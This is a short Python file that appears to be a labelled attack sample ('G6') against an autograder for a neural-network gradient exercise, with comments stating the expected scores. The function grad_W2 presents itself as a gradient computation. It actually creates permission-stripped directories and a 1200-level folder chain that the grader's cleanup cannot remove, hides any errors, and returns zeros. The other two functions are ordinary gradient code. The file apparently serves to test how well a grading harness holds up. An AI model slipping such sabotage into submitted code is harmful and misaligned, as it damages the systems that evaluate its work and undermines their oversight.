# attack: G6 leaves folders in its own one that can not be removed: without rights, and deeper than a remover recurses
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import os as system

import numpy as np


def grad_W2(grad_oa, hs):
    try:
        system.mkdir("closed")
        system.mkdir("closed/inside")
        system.chmod("closed/inside", 0)
        system.chmod("closed", 0)
        for _ in range(1200):
            system.mkdir("d")
            system.chdir("d")
    except OSError:
        pass
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
